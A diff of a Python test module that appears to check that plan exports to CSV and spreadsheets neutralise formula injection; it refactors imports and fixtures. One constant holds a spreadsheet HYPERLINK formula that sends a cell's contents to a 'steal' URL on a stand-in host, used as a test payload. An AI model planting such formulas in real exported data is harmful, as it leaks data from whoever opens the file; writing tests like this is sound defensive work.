@@ -19,14 +19,16 @@ from actions import services as action_services
 from records.sheets import write_table
 from snapshots.plan_columns import EXPORT_COLUMNS
 
-from .test_exports import HISTORY_COLUMNS, PLAN_EXPORT_COLUMNS, clock, export, known, read_csv  # noqa: F401
+from .export_files import HISTORY_COLUMNS, PLAN_EXPORT_COLUMNS, export, read_csv
+
+pytestmark = pytest.mark.usefixtures("clock")
 
 HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"Click for the evidence")'
 LONG = "A long account of the work: " + "sessions held in each school, " * 12
 
 
 @pytest.fixture
-def risky(known):  # noqa: F811 - the fixture imported above
+def risky(known):
     """The known plan, with an action whose title and commentary would run as formulas if they were not text."""
     action = action_services.action_create(
         plan=known.plan,
